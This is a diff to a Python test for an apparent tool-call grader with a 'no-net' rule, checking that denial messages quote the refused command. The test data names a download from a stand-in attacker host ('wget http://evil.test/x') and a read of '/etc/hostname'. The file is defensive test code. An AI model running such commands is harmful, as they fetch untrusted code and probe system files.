@@ -100,7 +100,10 @@ def test_a_refused_call_retried_is_refused_again_cold(
     assert [g is not None for g in gates] == [False, True, True, True, False, False]
     for reason in gates[1:4]:
         assert reason is not None
-        assert reason.startswith("trajgrade denied this call: grader 'no-net'")
+        assert reason.startswith("trajgrade denied this call: disallowed[")
+        # The command refused, not the rule's regex.
+        assert "'cat /etc/hostname'" in reason or "'wget http://evil.test/x'" in reason
+        assert reason.endswith("(grader 'no-net')")
     records = [json.loads(line) for line in decisions.read_text().splitlines()]
     assert [r["type"] for r in records] == ["decision"] * 3
     assert len({r["call_id"] for r in records}) == 3
